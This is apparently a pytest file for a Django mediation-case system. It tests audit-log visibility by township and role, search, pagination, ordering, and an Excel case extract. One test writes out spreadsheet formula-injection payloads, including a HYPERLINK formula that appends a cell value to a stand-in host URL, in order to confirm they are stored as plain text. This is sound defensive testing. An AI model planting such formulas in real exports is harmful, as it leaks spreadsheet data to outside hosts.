"""The auditors' page: who reads which events, the search, and one case's extract (tested from the
outsider's chair: another township's auditor sees nothing of 锦屏's)."""
from __future__ import annotations

import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from mediation import services as ms
from mediation.audit import record
from mediation.audit.models import AuditEvent
from mediation.audit.selectors import events_visible_to
from mediation.models import Role
from tests.factories import member, register
from workflows import services as ws


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def jinping_case(world):
    """A 锦屏 case with a history: registered, accepted, read by 锦屏's auditor."""
    case = register(world.mediator_a, world.town_a)
    ws.case_accept(case_id=case.pk, actor=world.mediator_a)
    _client(world.auditor_a).get(reverse("case_detail", args=[case.pk]))
    return case


def test_an_auditor_of_another_township_sees_none_of_jinpings_events(world, jinping_case):
    auditor_b = member(world.town_b, Role.AUDITOR)
    client = _client(auditor_b)

    page = client.get(reverse("audit:log"))
    by_case = client.get(reverse("audit:log"), {"case": jinping_case.number})
    extract = client.get(reverse("audit:case_extract", args=[jinping_case.pk]))

    assert page.status_code == by_case.status_code == 200
    assert jinping_case.number not in page.content.decode()
    assert list(by_case.context["page"]) == []  # the number typed is echoed in the form, nothing else
    assert extract.status_code == 404
    # Of all the rows only their own (their login) is theirs to read.
    assert set(events_visible_to(auditor_b).values_list("actor_id", flat=True)) == {auditor_b.pk}
    assert not events_visible_to(auditor_b).filter(case_id=jinping_case.pk).exists()


def test_jinpings_auditor_sees_jinpings_case_events_but_not_the_districts_other_events(world, jinping_case):
    outside = register(world.mediator_b, world.town_b)
    visible = events_visible_to(world.auditor_a)

    assert {"case.register", "case.accept", "case.read"} <= set(
        visible.filter(case_id=jinping_case.pk).values_list("action", flat=True))
    assert not visible.filter(case_id=outside.pk).exists()
    # Logins of other people are events without a case: the district's to read.
    assert not visible.filter(action="auth.login").exclude(actor_id=world.auditor_a.pk).exists()


def test_the_district_administrator_reads_every_event(world, jinping_case):
    register(world.mediator_b, world.town_b)

    assert events_visible_to(world.admin).count() == AuditEvent.objects.count()


def test_those_who_work_cases_do_not_read_the_trail(world, jinping_case):
    for user in (world.mediator_a, world.supervisor_a, world.district_supervisor):
        assert _client(user).get(reverse("audit:log")).status_code == 403
        assert not events_visible_to(user).exists()


def test_the_page_searches_by_case_user_and_date(world, jinping_case):
    other = register(world.mediator_a, world.town_a)
    client = _client(world.admin)

    by_case = client.get(reverse("audit:log"), {"case": jinping_case.number}).context["page"]
    by_user = client.get(reverse("audit:log"), {"user": world.auditor_a.username}).context["page"]
    future = client.get(reverse("audit:log"), {"date_from": "2099-01-01"}).context["page"]
    reversed_range = client.get(reverse("audit:log"), {"date_from": "2026-12-02", "date_to": "2026-12-01"})

    assert {e.case_id for e in by_case} == {jinping_case.pk}
    assert other.number not in {e.case_number for e in by_case}
    assert {e.actor_id for e in by_user} == {world.auditor_a.pk}
    assert list(future) == []
    assert reversed_range.status_code == 400


def test_the_page_is_paginated(world):
    for n in range(60):
        record(actor=world.admin, action="test.event", new={"n": n})

    page = _client(world.admin).get(reverse("audit:log"), {"page": 2}).context["page"]

    assert page.number == 2 and len(page.object_list) == AuditEvent.objects.count() - 50


def test_the_extract_stores_formula_like_text_as_text(world):
    case = register(world.mediator_a, world.town_a)
    trap = '=HYPERLINK("http://example.invalid/?x="&C2,"点此核对")'
    ws.case_reject(case_id=case.pk, actor=world.mediator_a, reason=trap)
    record(actor=world.mediator_a, action="test.event", case=case, reason="+1", new={"x": "@SUM(1)"})

    response = _client(world.auditor_a).get(reverse("audit:case_extract", args=[case.pk]))

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    reasons = [c for c in cells if c.value in (trap, "+1")]
    assert len(reasons) == 2
    assert all(c.data_type == "s" for c in reasons)
    assert not any(c.data_type == "f" for c in cells)
    actions = [row[4].value for row in sheet.iter_rows(min_row=2)]
    assert actions[:2] == ["登记案件", "不予受理"]
    assert AuditEvent.objects.filter(action="audit.extract", case_id=case.pk, actor_id=world.auditor_a.pk).exists()


def test_a_correction_made_in_the_admin_reaches_the_district_not_the_townships(world):
    from mediation.models import Person

    person = Person.objects.create(name="李四")
    ms.record_correct(record=person, actor=world.admin, reason="户口本为准", changes={"name": "李思"})

    assert events_visible_to(world.admin).filter(action="record.correct").exists()
    assert not events_visible_to(world.auditor_a).filter(action="record.correct").exists()


def test_the_navigation_offers_the_trail_to_its_readers_only(world):
    assert reverse("audit:log") in _client(world.auditor_a).get(reverse("home")).content.decode()
    assert reverse("audit:log") not in _client(world.supervisor_a).get(reverse("home")).content.decode()


def test_the_search_and_the_extract_list_rows_by_their_time(world, monkeypatch):
    """A row appended later with an earlier time (the reads migration 0021 moved onto the trail from
    the former access log) stands where it happened: newest first in the search, oldest first in a
    case's extract."""
    import datetime

    from django.utils import timezone

    from mediation.audit import log
    from mediation.audit.selectors import events_search

    case = register(world.mediator_a, world.town_a)
    record(actor=world.auditor_a, action="test.now", case=case)
    long_ago = timezone.now() - datetime.timedelta(days=400)
    monkeypatch.setattr(log.timezone, "now", lambda: long_ago)
    record(actor=world.auditor_a, action="test.long_ago", case=case)  # written last, dated first
    monkeypatch.undo()

    found = [e.action for e in events_search(user=world.auditor_a, case=case.number) if e.action.startswith("test.")]
    assert found == ["test.now", "test.long_ago"]
    response = _client(world.auditor_a).get(reverse("audit:case_extract", args=[case.pk]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    actions = [row[4].value for row in sheet.iter_rows(min_row=2)]
    assert actions.index("test.long_ago") == 0 and actions.index("test.long_ago") < actions.index("test.now")
